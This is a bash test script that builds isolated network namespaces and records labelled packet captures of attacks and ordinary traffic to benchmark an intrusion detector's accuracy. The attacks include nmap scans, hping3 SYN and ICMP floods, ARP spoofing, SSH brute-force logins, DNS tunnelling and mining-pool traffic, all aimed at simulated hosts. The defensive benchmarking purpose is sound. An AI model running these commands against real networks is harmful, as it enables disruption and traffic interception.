#!/usr/bin/env bash
# Records attacks and ordinary traffic, made by real tools in network namespaces of its own, with labels that say which is
# which, for `watchfold bench accuracy`. Nothing leaves the machine, and nothing stays but the files. Needs root and iproute2,
# tcpdump, nmap, hping3, dsniff, dig, iperf3, curl, rsync, ssh, sshd, nc and python3.
#
#   sudo tests/accuracy.sh DIRECTORY
#
# The network: a router (192.168.50.1) between a LAN (PC .10, server .20, attacker .66) and a host outside (93.184.216.34).
set -euo pipefail

out=${1:?usage: tests/accuracy.sh DIRECTORY}
mkdir -p "$out"
out=$(cd "$out" && pwd)
place=$(mktemp -d)
router=wf-acc-net pc=wf-acc-pc server=wf-acc-server bad=wf-acc-bad far=wf-acc-far
running=()

clean() {
    for pid in "${running[@]}"; do kill "$pid" 2>/dev/null || true; done
    for name in $pc $server $bad $far $router; do
        ip netns pids "$name" 2>/dev/null | xargs -r kill 2>/dev/null || true
        ip netns delete "$name" 2>/dev/null || true
    done
    rm -rf "$place"
}
trap clean EXIT

on() { local name=$1; shift; ip netns exec "$name" "$@"; }
# Runs in the background of the whole recording.
serve() { ip netns exec "$@" >/dev/null 2>&1 & running+=($!); }

network() {
    for name in $router $pc $server $bad $far; do
        ip netns add "$name"
        ip -n "$name" link set lo up
    done
    ip -n $router link add lan type bridge
    ip -n $router addr add 192.168.50.1/24 dev lan
    ip -n $router link set lan up promisc on
    local last
    for pair in $pc:10 $server:20 $bad:66; do
        name=${pair%:*} last=${pair#*:}
        ip link add "wfa$last" netns "$name" type veth peer name "lan$last" netns $router
        ip -n "$name" addr add "192.168.50.$last/24" dev "wfa$last"
        ip -n "$name" link set "wfa$last" up
        ip -n "$name" route add default via 192.168.50.1
        ip -n $router link set "lan$last" master lan up
    done
    ip link add wfaout netns $far type veth peer name outside netns $router
    ip -n $router addr add 93.184.216.1/24 dev outside
    ip -n $router link set outside up
    ip -n $far addr add 93.184.216.34/24 dev wfaout
    ip -n $far link set wfaout up
    ip -n $far route add default via 93.184.216.1
    # A whole network outside, in which nobody answers.
    ip -n $router route add 93.184.217.0/24 via 93.184.216.34
    on $router sysctl -qw net.ipv4.ip_forward=1
    on $router sysctl -qw net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.lan.send_redirects=0
}

services() {
    mkdir "$place/web" "$place/keys"
    head -c 400000 /dev/urandom >"$place/web/page"
    head -c 30000000 /dev/urandom >"$place/web/film"
    ssh-keygen -q -t ed25519 -N '' -f "$place/keys/host"
    for name in $server $far; do
        serve $name python3 -m http.server 80 --directory "$place/web"
        serve $name iperf3 -s
    done
    serve $server python3 -m http.server 8443 --directory "$place/web"
    mkdir -p /run/sshd
    serve $server /usr/sbin/sshd -D -h "$place/keys/host" -o UsePAM=no -o PasswordAuthentication=no \
        -o PidFile=none -o MaxStartups=200
    printf '[data]\npath = %s\nuse chroot = no\nuid = root\ngid = root\n' "$place/web" >"$place/rsyncd.conf"
    serve $server rsync --daemon --no-detach --port=873 --config="$place/rsyncd.conf"
    # A pool that takes every login, and a server of names that answers everything with one address.
    cat >"$place/far.py" <<'PY'
import socket, threading
def pool():
    listening = socket.create_server(("0.0.0.0", 3333))
    while True:
        miner, _ = listening.accept()
        miner.recv(4096)
        miner.sendall(b'{"id":1,"result":[[],"00",4],"error":null}\n')
        miner.close()
threading.Thread(target=pool, daemon=True).start()
names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
names.bind(("0.0.0.0", 53))
while True:
    question, who = names.recvfrom(4096)
    end = question.index(b"\0", 12) + 5
    answer = b"\xc0\x0c\0\x01\0\x01\0\0\0\x3c\0\x04\x5d\xb8\xd8\x22"
    names.sendto(question[:2] + b"\x81\x80\0\x01\0\x01\0\0\0\0" + question[12:end] + answer, who)
PY
    serve $far python3 "$place/far.py"
    for port in 80 5201; do
        until on $pc nc -z 192.168.50.20 $port && on $pc nc -z 93.184.216.34 $port; do sleep 0.1; done
    done
    until on $pc dig +short +time=1 +tries=1 @93.184.216.34 ready.example | grep -q .; do sleep 0.1; done
}

# scene NAME ATTACKS ALSO COMMAND…: records the command. ATTACKS is a list of "category[/category] subject" that must be
# found, ALSO of categories that are right to be told besides, both separated by commas and empty for ordinary traffic.
number=0
scene() {
    local name=$1 attacks=$2 also=$3; shift 3
    number=$((number + 1))
    local file; file=$(printf '%02d-%s.pcap' $number "$name")
    : >"$place/tcpdump"
    ip netns exec $router tcpdump -q -U --immediate-mode -i lan -s 256 -B 65536 -w "$out/$file" 2>"$place/tcpdump" &
    local capture=$!
    until grep -q listening "$place/tcpdump"; do sleep 0.05; done
    "$@" >"$place/said" 2>&1 || { echo "$name:" >&2; tail -3 "$place/said" >&2; }
    sleep 1
    kill -TERM $capture
    wait $capture || true
    python3 - "$out/labels.jsonl" "$name" "$file" "$attacks" "$also" "$*" <<'PY'
import json, sys
path, name, file, attacks, also, command = sys.argv[1:]
def attack(text):
    categories, subject = text.split()
    return {"categories": categories.split("/"), "subject": subject}
label = {
    "name": name, "file": file, "command": command,
    "attacks": [attack(text) for text in attacks.split(",") if text],
    "also": [category for category in also.split(",") if category],
}
with open(path, "a") as labels:
    labels.write(json.dumps(label) + "\n")
PY
    echo "$file" >&2
}

logins() {
    for _ in $(seq 45); do
        on $bad ssh -q -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
            -o ConnectTimeout=3 nobody@192.168.50.20 true || true
        sleep 0.2
    done
}
spoofed() { timeout 12 ip netns exec $bad arpspoof -i wfa66 -t 192.168.50.10 192.168.50.1; true; }
tunnel() {
    local type=$1 label
    for _ in $(seq 90); do
        label=$(head -c 30 /dev/urandom | base32 | tr -d = | tr 'A-Z' 'a-z')
        on $pc dig +time=1 +tries=1 "@93.184.216.34" "$label.t.example.org" "$type" >/dev/null
    done
}
miner() {
    printf '{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}\n' | on $pc nc -q1 -w3 93.184.216.34 3333
}
browse() {
    local round fetching
    for round in $(seq 6); do
        fetching=()
        for _ in $(seq 8); do ip netns exec $pc curl -s -o /dev/null "http://$1/page" & fetching+=($!); done
        wait "${fetching[@]}"
        sleep 0.3
    done
}
names() {
    local name
    for name in www.example.com mail.example.com api.example.net cdn.example.org \
        a1234567890b1234567890c.deploy.static.cdn-provider.example.com \
        e1234.dscx.edge-of-the-network.example.net eu-central-1.console.storage.example.com; do
        for type in A AAAA; do on $pc dig +time=1 +tries=1 "@93.184.216.34" "$name" $type; done
    done
    for name in 8.8.8.8 2a00:1450:4001:813::200e 2606:4700:4700::1111; do
        on $pc dig +time=1 +tries=1 "@93.184.216.34" -x $name
    done
}
office() {
    on $pc ping -q -i 0.5 -c 10 192.168.50.20
    local _
    for _ in 1 2 3; do
        on $pc ssh -q -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null nobody@192.168.50.20 true || true
        sleep 1
    done
}

network
services
: >"$out/labels.jsonl"
any=0.0.0.0
scene nmap-syn "port_scan 192.168.50.66" suspicious_port,brute_force,syn_flood on $bad nmap -n -Pn -sS -p1-300 192.168.50.20
scene nmap-connect "port_scan 192.168.50.66" suspicious_port,brute_force on $bad nmap -n -Pn -sT -p20-80 192.168.50.20
scene nmap-xmas "port_scan 192.168.50.66" suspicious_port,brute_force on $bad nmap -n -Pn -sX -p1-100 192.168.50.20
scene nmap-null "port_scan 192.168.50.66" suspicious_port,brute_force on $bad nmap -n -Pn -sN -p1-100 192.168.50.20
scene nmap-slow "port_scan 192.168.50.66" suspicious_port,brute_force on $bad nmap -n -Pn -sS --scan-delay 1500ms --max-retries 0 -p100-122 192.168.50.20
scene nmap-udp "port_scan 192.168.50.66" suspicious_port on $bad nmap -n -Pn -sU --max-retries 0 -p100-160 192.168.50.20
scene nmap-sweep "host_sweep/port_scan 192.168.50.66" suspicious_port,brute_force on $bad nmap -n -Pn -sS --max-retries 0 -p445 93.184.217.0/26
scene hping-syn "syn_flood 192.168.50.66" "" on $bad hping3 -q -S -i u2000 -c 1500 -p 80 192.168.50.20
scene hping-syn-spoofed "syn_flood $any" "" on $bad hping3 -q -S --rand-source -i u1000 -c 5000 -p 80 192.168.50.20
scene hping-icmp "icmp_flood 192.168.50.66" "" on $bad hping3 -q -1 -i u2000 -c 1500 192.168.50.20
scene ping-flood "icmp_flood 192.168.50.66" "" on $bad ping -q -f -c 2000 192.168.50.20
scene arpspoof "arp_spoofing $any" "" spoofed
scene ssh-logins "brute_force 192.168.50.66" "" logins
scene dns-tunnel-txt "dns_tunnel 192.168.50.10" "" tunnel TXT
scene dns-tunnel-a "dns_tunnel 192.168.50.10" "" tunnel A
scene upload "exfiltration 192.168.50.10" "" on $pc iperf3 -c 93.184.216.34 -b 40M -t 15
scene miner "mining 192.168.50.10" suspicious_port miner
scene browse-outside "" "" browse 93.184.216.34
scene browse-server "" "" browse 192.168.50.20
scene page-8443 "" "" on $pc curl -s -o /dev/null http://192.168.50.20:8443/page
scene download "" "" on $pc curl -s -o /dev/null http://93.184.216.34/film
scene copy-in-the-lan "" "" on $pc iperf3 -c 192.168.50.20 -b 80M -t 5
scene rsync-in-the-lan "" "" on $pc rsync -q rsync://192.168.50.20/data/film "$place/copy"
scene call "" "" on $pc iperf3 -u -c 93.184.216.34 -b 1500K -l 1200 -t 40
scene names "" "" names
scene office "" "" office
chmod a+r "$out"/*
